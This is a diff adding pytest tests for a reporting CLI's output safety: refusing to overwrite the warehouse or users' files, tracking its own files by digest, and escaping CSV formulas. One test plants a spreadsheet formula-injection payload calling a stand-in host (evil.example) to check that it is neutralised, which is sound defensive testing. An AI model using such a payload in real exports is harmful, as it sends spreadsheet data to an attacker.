@@ -3,6 +3,8 @@ by hand, and `pp report` rendering its charts and exporting its tables."""
 
 from __future__ import annotations
 
+import hashlib
+import json
 import sys
 from datetime import UTC, date, datetime
 from zoneinfo import ZoneInfo
@@ -12,8 +14,10 @@ import polars as pl
 import pytest
 
 from flows import cli
-from flows.report import read_metrics, report
+from flows.report import MANIFEST, TABLES, check_output, read_metrics, report
+from schemas.errors import PipelineError
 from tasks.periods import parse_period
+from tasks.report import GENERATOR, GENERATOR_TAG
 from warehouse import store
 
 MSK = ZoneInfo("Europe/Moscow")
@@ -220,3 +224,140 @@ def test_the_views_count_hot_time_to_take_in_working_minutes(small):
         ).fetchall()
     assert minutes == [(1, 120.0), (2, 240.0), (6, None)]  # lead 6 left sc-msk-1 untaken
     assert sla == [(180.0, 228.0)]
+
+
+def run(monkeypatch, capsys, *args: str) -> tuple[int, str, str]:
+    monkeypatch.setattr(sys, "argv", ["pp", *args])
+    monkeypatch.setenv("COLUMNS", "200")
+    try:
+        cli.main()
+        code = 0
+    except SystemExit as exc:
+        code = int(exc.code or 0)
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+@pytest.mark.parametrize("force", [[], ["--force"]])
+@pytest.mark.parametrize("suffix", ["", ".wal", ".lock"])
+def test_pp_report_never_replaces_the_warehouse_or_the_files_beside_it(
+    monkeypatch, capsys, warehouse, suffix, force
+):
+    guarded = warehouse.with_name(warehouse.name + suffix)
+    if not guarded.exists():
+        guarded.write_bytes(b"held by the warehouse")
+    before = guarded.read_bytes()
+    code, _, err = run(
+        monkeypatch, capsys, "--warehouse", str(warehouse), "report", "--out", str(guarded), *force
+    )
+    assert code == 2
+    assert err.startswith("pp: error: ") and "would replace the warehouse's own file" in err
+    assert len(err.strip().splitlines()) == 1
+    assert guarded.read_bytes() == before
+
+
+def test_pp_report_refuses_a_file_it_did_not_write(monkeypatch, capsys, warehouse, tmp_path):
+    notes = tmp_path / "notes.html"
+    notes.write_text("<p>my own notes</p>", encoding="utf-8")
+    code, _, err = run(monkeypatch, capsys, "--warehouse", str(warehouse), "report", "--out", str(notes))
+    assert code == 2
+    assert f"{notes} exists and was not written by pp report" in err and "--force" in err
+    assert len(err.strip().splitlines()) == 1
+    assert notes.read_text(encoding="utf-8") == "<p>my own notes</p>"
+
+
+def test_pp_report_refuses_tables_over_files_it_did_not_write(monkeypatch, capsys, warehouse):
+    """The warehouse's own folder as `--out`: a user's `sla.csv` there stops the export."""
+    folder = warehouse.parent
+    (folder / "sla.csv").write_text("mine\n", encoding="utf-8")
+    before = sorted(folder.iterdir())
+    code, _, err = run(
+        monkeypatch, capsys, "--warehouse", str(warehouse), "report", "--format", "csv", "--out", str(folder)
+    )
+    assert code == 2
+    assert f"{folder / 'sla.csv'} exists and was not written by pp report" in err
+    assert sorted(folder.iterdir()) == before
+    assert (folder / "sla.csv").read_text(encoding="utf-8") == "mine\n"
+
+
+def test_the_output_is_checked_before_anything_is_read(tmp_path, warehouse):
+    (tmp_path / "folder").mkdir()
+    page = tmp_path / "page.html"
+    page.write_text(f"<!DOCTYPE html><html><head>{GENERATOR_TAG}</head></html>", encoding="utf-8")
+    link = tmp_path / "link.html"
+    link.symlink_to(warehouse)
+    with pytest.raises(PipelineError, match=r"is a folder; name the \.html file"):
+        check_output(tmp_path / "folder", "html", warehouse=warehouse, force=True)
+    with pytest.raises(PipelineError, match="is a file; --format csv writes its tables into a folder"):
+        check_output(page, "csv", warehouse=warehouse, force=True)
+    with pytest.raises(PipelineError, match="would replace the warehouse's own file"):
+        check_output(link, "html", warehouse=warehouse, force=True)
+    with pytest.raises(PipelineError, match="would replace the warehouse's own file"):
+        check_output(tmp_path, "parquet", warehouse=tmp_path / "sla.parquet", force=True)
+    with pytest.raises(PipelineError, match="would replace the warehouse's own file"):
+        check_output(warehouse.with_name(warehouse.name + ".wal"), "csv", warehouse=warehouse, force=True)
+    assert check_output(page, "html", warehouse=warehouse, force=False) == (page,)
+
+
+def test_a_table_folder_stopped_half_way_is_still_the_reports(tmp_path, warehouse):
+    """Between the swap of the tables the manifest holds both digests of each: old or new,
+    every file there is one the next run may replace."""
+    folder = tmp_path / "tables"
+    folder.mkdir()
+    for name in TABLES:
+        (folder / f"{name}.csv").write_text(f"old {name}\n", encoding="utf-8")
+    (folder / "sla.csv").write_text("new sla\n", encoding="utf-8")
+    digests = {
+        f"{name}.csv": [hashlib.sha256(f"{text} {name}\n".encode()).hexdigest() for text in ("old", "new")]
+        for name in TABLES
+    }
+    (folder / MANIFEST).write_text(json.dumps({"generator": GENERATOR, "files": digests}), encoding="utf-8")
+    assert len(check_output(folder, "csv", warehouse=warehouse, force=False)) == len(TABLES) + 1
+    (folder / "trend.csv").write_text("edited by hand\n", encoding="utf-8")
+    with pytest.raises(PipelineError, match=r"trend\.csv exists and was not written by pp report"):
+        check_output(folder, "csv", warehouse=warehouse, force=False)
+
+
+@pytest.mark.usefixtures("prefect_server")
+def test_the_report_replaces_its_own_page_and_another_only_when_forced(small, tmp_path):
+    """The weekly schedule re-runs into its default page beside the warehouse; a page someone
+    else wrote there is kept unless forced."""
+    first = report(last_complete=True, as_of=AS_OF, warehouse=str(small))
+    default = small.parent / "report-2026-W10.html"
+    assert first["written"] == str(default)
+    again = report(last_complete=True, as_of=AS_OF.replace(hour=13), warehouse=str(small))
+    assert again["written"] == str(default)
+    assert AS_OF.replace(hour=13).astimezone(UTC).isoformat() in default.read_text(encoding="utf-8")
+    default.write_text("someone else's page", encoding="utf-8")
+    with pytest.raises(PipelineError, match="was not written by pp report"):
+        report(last_complete=True, as_of=AS_OF, warehouse=str(small))
+    assert default.read_text(encoding="utf-8") == "someone else's page"
+    report(last_complete=True, as_of=AS_OF, warehouse=str(small), force=True)
+    assert GENERATOR_TAG in default.read_text(encoding="utf-8")
+    assert not list(tmp_path.glob("*.partial")) and not list(tmp_path.glob(".*.partial"))
+
+
+@pytest.mark.usefixtures("prefect_server")
+def test_tables_beside_the_warehouse_keep_everything_else(small):
+    folder = small.parent
+    (folder / "notes.txt").write_text("mine", encoding="utf-8")
+    before = {p.name for p in folder.iterdir()}
+    for _ in range(2):  # the second run replaces its own tables
+        report(period="2026-W10", out=str(folder), format="csv", as_of=AS_OF, warehouse=str(small))
+    assert {p.name for p in folder.iterdir()} == {*before, MANIFEST, *(f"{name}.csv" for name in TABLES)}
+    assert (folder / "notes.txt").read_text(encoding="utf-8") == "mine"
+    assert query(small, "SELECT count(*) AS n FROM leads")["n"].item() == len(LEADS)
+
+
+@pytest.mark.usefixtures("prefect_server")
+def test_csv_cells_cannot_run_as_formulas(small, tmp_path):
+    """Reference text such as a product name reaches the conversion table as it was entered."""
+    product = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with store.transaction(small) as con:
+        store.run(con, "UPDATE leads SET product = ? WHERE lead_id = 1", [product])
+    folder = tmp_path / "csv"
+    report(period="2026-W10", out=str(folder), format="csv", as_of=AS_OF, warehouse=str(small))
+    text = (folder / "conversion.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text
+    assert not any(cell.startswith(("=", '"=')) for line in text.splitlines() for cell in line.split(","))
+    assert pl.read_csv(folder / "conversion.csv")["value"].to_list().count("'" + product) == 1
